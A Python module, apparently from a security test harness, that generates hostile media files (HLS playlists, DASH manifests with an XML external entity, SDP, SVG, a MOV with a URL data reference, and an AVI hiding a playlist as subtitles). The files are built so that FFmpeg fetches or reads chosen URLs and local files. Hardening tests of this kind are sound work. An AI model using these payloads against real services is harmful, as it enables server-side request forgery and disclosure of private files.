"""Files that are no pictures themselves and name where they lie: playlists, session descriptions,
references within containers.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

from infra.hostile.mutations import Hostile


def references(targets: list[str], seeds: dict[str, bytes]) -> Iterator[Hostile]:
    """Of every kind FFmpeg knows, to each of ``targets``: addresses, and paths of files."""
    for target in targets:
        for name, text in _texts(target).items():
            data = text.encode()
            yield Hostile(f"{name} to {target}", data)
            # What looks like a video to whoever reads a few bytes.
            for head, first in _HEADS.items():
                yield Hostile(f"{name} behind {head} to {target}", first + data)
        yield Hostile(f"mov whose pictures lie at {target}", _mov_elsewhere(target, seeds["mov"]))
        yield Hostile(f"avi with a playlist as subtitles to {target}", _avi_with_playlist(target))


_HEADS = {
    "ftyp": struct.pack(">I", 16) + b"ftypisom\0\0\2\0",
    "flv": b"FLV\x01\x01\0\0\0\x09\0\0\0\0",
    "ogg": b"OggS",
    "mpeg": b"\0\0\1\xba",
    "matroska": b"\x1a\x45\xdf\xa3\x80",
    "a line": b"\n",
}


def _texts(target: str) -> dict[str, str]:
    port = target.rpartition(":")[2].partition("/")[0]
    port = port if port.isdigit() else "9"
    return {
        "m3u8": f"#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n{target}\n#EXT-X-ENDLIST\n",
        "m3u8 key": "#EXTM3U\n#EXT-X-TARGETDURATION:2\n"
        f'#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n#EXTINF:2,\n{target}\n#EXT-X-ENDLIST\n',
        "m3u8 map": f'#EXTM3U\n#EXT-X-MAP:URI="{target}"\n#EXTINF:2,\n{target}\n#EXT-X-ENDLIST\n',
        "m3u8 master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{target}\n",
        "m3u8 concat": f"#EXTM3U\n#EXTINF:2,\nconcat:{target}|{target}\n#EXT-X-ENDLIST\n",
        "m3u8 subfile": f"#EXTM3U\n#EXTINF:2,\nsubfile,,start,0,end,64,,:{target}\n",
        "m3u8 crypto": f"#EXTM3U\n#EXTINF:2,\ncrypto+{target}\n#EXT-X-ENDLIST\n",
        "ffconcat": f"ffconcat version 1.0\nfile '{target}'\n",
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=video {port} TCP 96\na=rtpmap:96 H264/90000\na=control:{target}\n",
        "mpd": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" '
        'type="static" mediaPresentationDuration="PT2S"><Period><AdaptationSet '
        f'mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{target}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>",
        "mpd with entities": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'
        "<MPD><Period><BaseURL>&e;</BaseURL></Period></MPD>",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{target}"/></svg>',
        "smil": f'<smil><body><video src="{target}"/></body></smil>',
        "rtsp redirect": f"RTSPtext\nrtsp://{target.partition('//')[2]}\n",
        "imf": '<?xml version="1.0"?><CompositionPlaylist><Asset><Path>'
        f"{target}</Path></Asset></CompositionPlaylist>",
        "vobsub": f"# VobSub index file, v7\nid: en, index: 0\n# {target}\n",
    }


def _mov_elsewhere(target: str, mov: bytes) -> bytes:
    """Its data reference is a URL, where FFmpeg would look for the pictures if it were let."""
    location = target.encode() + b"\0"
    entry = struct.pack(">I", 12 + len(location)) + b"url \0\0\0\0" + location
    at = mov.index(b"dref") - 4
    size = int.from_bytes(mov[at : at + 4], "big")
    dref = struct.pack(">I", 16 + len(entry)) + b"dref" + bytes(4) + struct.pack(">I", 1) + entry
    grown = bytearray(mov[:at] + dref + mov[at + size :])
    for box in (b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        place = grown.rindex(box, 0, at) - 4
        was = int.from_bytes(grown[place : place + 4], "big")
        grown[place : place + 4] = struct.pack(">I", was + len(dref) - size)
    return bytes(grown)


def _avi_with_playlist(target: str) -> bytes:
    """FFmpeg hands subtitles of this kind to whatever demuxer knows them."""
    playlist = f"#EXTM3U\n#EXTINF:10.0,\n{target}\n#EXT-X-ENDLIST\n".encode()
    body = b"GAB2\0" + struct.pack("<HIHI", 2, 0, 4, len(playlist)) + playlist
    body += bytes(len(body) % 2)
    stream = struct.pack("<4s4sIHHIIIIIIIIhhhh", b"txts", bytes(4), *[0] * 15)
    headers = _riff(b"avih", struct.pack("<14I", 10_000, *[0] * 5, 1, *[0] * 7))
    headers += _list(b"strl", _riff(b"strh", stream) + _riff(b"strf", bytes(40)))
    movie = _list(b"movi", _riff(b"00tx", body))
    return b"RIFF" + _sized(b"AVI " + _list(b"hdrl", headers) + movie)


def _sized(body: bytes) -> bytes:
    return struct.pack("<I", len(body)) + body


def _riff(kind: bytes, body: bytes) -> bytes:
    return kind + _sized(body)


def _list(kind: bytes, body: bytes) -> bytes:
    return _riff(b"LIST", kind + body)
